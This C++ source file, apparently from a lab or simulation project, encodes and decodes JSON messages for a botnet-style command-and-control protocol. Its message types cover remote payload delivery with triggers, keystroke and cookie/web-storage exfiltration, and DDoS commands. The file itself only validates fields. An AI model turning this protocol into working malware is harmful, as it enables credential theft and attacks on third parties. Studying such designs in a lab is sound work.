#include "avtlab/wire.hpp"

#include "avtlab/error.hpp"

namespace avtlab {

using nlohmann::json;

std::string_view to_string(FnId fn) noexcept {
    switch (fn) {
        case FnId::WordCount: return "WordCount";
        case FnId::SumOfSquares: return "SumOfSquares";
    }
    return "WordCount";
}

FnId fn_id_from_string(std::string_view name) {
    if (name == "WordCount") return FnId::WordCount;
    if (name == "SumOfSquares") return FnId::SumOfSquares;
    throw Error(Errc::InvalidField, "fn_id: unknown function '" + std::string(name) + "'");
}

namespace {

const json& field(const json& j, const char* name) {
    auto it = j.find(name);
    if (it == j.end()) throw Error(Errc::MissingField, name);
    return *it;
}

std::string get_string(const json& j, const char* name) {
    const json& v = field(j, name);
    if (!v.is_string()) throw Error(Errc::InvalidField, std::string(name) + ": expected string");
    return v.get<std::string>();
}

// Values built in code carry non-negative ints as signed; parsed text as unsigned.
bool is_u64(const json& v) { return v.is_number_unsigned() || (v.is_number_integer() && v.get<std::int64_t>() >= 0); }

std::uint64_t get_u64(const json& j, const char* name) {
    const json& v = field(j, name);
    if (!is_u64(v))
        throw Error(Errc::InvalidField, std::string(name) + ": expected unsigned integer");
    return v.get<std::uint64_t>();
}

StringMap get_string_map(const json& j, const char* name) {
    const json& v = field(j, name);
    if (!v.is_object()) throw Error(Errc::InvalidField, std::string(name) + ": expected object");
    StringMap out;
    for (auto it = v.begin(); it != v.end(); ++it) {
        if (!it->is_string())
            throw Error(Errc::InvalidField, std::string(name) + "." + it.key() + ": expected string");
        out.emplace(it.key(), it->get<std::string>());
    }
    return out;
}

CountMap get_count_map(const json& j, const char* name) {
    const json& v = field(j, name);
    if (!v.is_object()) throw Error(Errc::InvalidField, std::string(name) + ": expected object");
    CountMap out;
    for (auto it = v.begin(); it != v.end(); ++it) {
        if (!is_u64(*it))
            throw Error(Errc::InvalidField,
                        std::string(name) + "." + it.key() + ": expected unsigned integer");
        out.emplace(it.key(), it->get<std::uint64_t>());
    }
    return out;
}

template <class>
inline constexpr bool always_false = false;

}  // namespace

json trigger_to_json(const TriggerSpec& t) {
    return std::visit(
        [](const auto& v) -> json {
            using T = std::decay_t<decltype(v)>;
            if constexpr (std::is_same_v<T, Immediate>) {
                return {{"kind", "Immediate"}};
            } else if constexpr (std::is_same_v<T, OnEvent>) {
                return {{"kind", "OnEvent"}, {"token", v.token}};
            } else if constexpr (std::is_same_v<T, AtTick>) {
                return {{"kind", "AtTick"}, {"tick", v.tick}};
            } else {
                static_assert(always_false<T>);
            }
        },
        t);
}

TriggerSpec trigger_from_json(const json& j) {
    if (!j.is_object()) throw Error(Errc::InvalidField, "trigger: expected object");
    const std::string kind = get_string(j, "kind");
    if (kind == "Immediate") return Immediate{};
    if (kind == "OnEvent") {
        auto token = get_string(j, "token");
        if (token.empty()) throw Error(Errc::InvalidField, "trigger.token: must be non-empty");
        return OnEvent{std::move(token)};
    }
    if (kind == "AtTick") return AtTick{get_u64(j, "tick")};
    throw Error(Errc::InvalidField, "trigger.kind: unknown '" + kind + "'");
}

std::string describe(const TriggerSpec& t) {
    if (std::holds_alternative<Immediate>(t)) return "Immediate";
    if (auto* e = std::get_if<OnEvent>(&t)) return "OnEvent(" + e->token + ")";
    return "AtTick(" + std::to_string(std::get<AtTick>(t).tick) + ")";
}

namespace wire {

std::string_view type_name(const Message& m) noexcept {
    static constexpr std::string_view names[] = {
        "Register",  "PayloadDelivery", "Activate",    "ExfilKeystrokes", "ExfilStorage",
        "MapAssign", "MapResult",       "DdosCommand", "Terminate"};
    return names[m.index()];
}

json to_json(const Message& m) {
    json j = std::visit(
        [](const auto& v) -> json {
            using T = std::decay_t<decltype(v)>;
            if constexpr (std::is_same_v<T, Register>) {
                return {{"client_id", v.client_id}};
            } else if constexpr (std::is_same_v<T, PayloadDelivery>) {
                return {{"payload_id", v.payload_id},
                        {"code", v.code},
                        {"trigger", trigger_to_json(v.trigger)}};
            } else if constexpr (std::is_same_v<T, Activate>) {
                return {{"trigger_token", v.trigger_token}};
            } else if constexpr (std::is_same_v<T, ExfilKeystrokes>) {
                json events = json::array();
                for (const auto& e : v.events) events.push_back({{"key", e.key}, {"tick", e.tick}});
                return {{"client_id", v.client_id}, {"events", std::move(events)}};
            } else if constexpr (std::is_same_v<T, ExfilStorage>) {
                return {{"client_id", v.client_id},
                        {"cookies", v.cookies},
                        {"web_storage", v.web_storage}};
            } else if constexpr (std::is_same_v<T, MapAssign>) {
                return {{"task_id", v.task_id},
                        {"fn_id", std::string(to_string(v.fn_id))},
                        {"chunk", v.chunk}};
            } else if constexpr (std::is_same_v<T, MapResult>) {
                return {{"task_id", v.task_id}, {"client_id", v.client_id}, {"value", v.value}};
            } else if constexpr (std::is_same_v<T, DdosCommand>) {
                return {{"target", v.target}, {"rate", v.rate}, {"duration", v.duration}};
            } else if constexpr (std::is_same_v<T, Terminate>) {
                return json::object();
            } else {
                static_assert(always_false<T>);
            }
        },
        m);
    j["type"] = std::string(type_name(m));
    return j;
}

Message from_json(const json& j) {
    if (!j.is_object()) throw Error(Errc::MalformedJson, "frame is not a JSON object");
    const std::string type = get_string(j, "type");

    if (type == "Register") return Register{get_string(j, "client_id")};
    if (type == "PayloadDelivery")
        return PayloadDelivery{get_string(j, "payload_id"), get_string(j, "code"),
                               trigger_from_json(field(j, "trigger"))};
    if (type == "Activate") return Activate{get_string(j, "trigger_token")};
    if (type == "ExfilKeystrokes") {
        ExfilKeystrokes m{get_string(j, "client_id"), {}};
        const json& events = field(j, "events");
        if (!events.is_array()) throw Error(Errc::InvalidField, "events: expected array");
        for (const auto& e : events) {
            if (!e.is_object()) throw Error(Errc::InvalidField, "events[]: expected object");
            m.events.push_back({get_string(e, "key"), get_u64(e, "tick")});
        }
        return m;
    }
    if (type == "ExfilStorage")
        return ExfilStorage{get_string(j, "client_id"), get_string_map(j, "cookies"),
                            get_string_map(j, "web_storage")};
    if (type == "MapAssign")
        return MapAssign{get_u64(j, "task_id"), fn_id_from_string(get_string(j, "fn_id")),
                         get_string(j, "chunk")};
    if (type == "MapResult")
        return MapResult{get_u64(j, "task_id"), get_string(j, "client_id"),
                         get_count_map(j, "value")};
    if (type == "DdosCommand") {
        DdosCommand m{get_string(j, "target"), get_u64(j, "rate"), get_u64(j, "duration")};
        if (m.rate < 1) throw Error(Errc::InvalidField, "rate: must be >= 1");
        if (m.duration < 1) throw Error(Errc::InvalidField, "duration: must be >= 1");
        return m;
    }
    if (type == "Terminate") return Terminate{};
    throw Error(Errc::UnknownType, type);
}

std::string encode_frame(const Message& m) {
    // nlohmann::json objects are std::map backed, so keys come out sorted.
    return to_json(m).dump();
}

Message decode_frame(std::string_view frame) {
    json j;
    try {
        j = json::parse(frame.begin(), frame.end());
    } catch (const json::parse_error& e) {
        throw Error(Errc::MalformedJson, "byte " + std::to_string(e.byte) + ": " + e.what());
    }
    return from_json(j);
}

}  // namespace wire
}  // namespace avtlab
